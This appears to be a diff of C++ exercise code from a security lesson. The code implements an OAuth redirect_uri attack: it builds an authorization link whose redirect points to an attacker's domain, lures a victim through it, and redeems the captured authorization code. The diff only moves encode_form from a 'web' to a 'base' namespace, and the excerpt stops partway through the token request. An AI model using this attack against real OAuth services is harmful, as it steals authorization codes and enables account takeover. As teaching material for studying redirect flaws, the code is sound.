@@ -1,6 +1,6 @@
 // Believes: the server sends the browser wherever the link says.
+#include "base/percent_encoding.hpp"
 #include "redirect_prefix.hpp"
-#include "web/percent_encoding.hpp"
 
 namespace lesson {
 
@@ -8,7 +8,7 @@ Loot attack(const Evidence& evidence) {
   const auto trap = "https://" + evidence.your_domain + "/";
   const auto caught = evidence.lure(
       evidence.authorize + "?" +
-      web::encode_form(
+      base::encode_form(
           {{"response_type", "code"}, {"client_id", evidence.client_id}, {"redirect_uri", trap}}));
   const auto answer = evidence.redeem({{"grant_type", "authorization_code"},
                                        {"client_id", evidence.client_id},
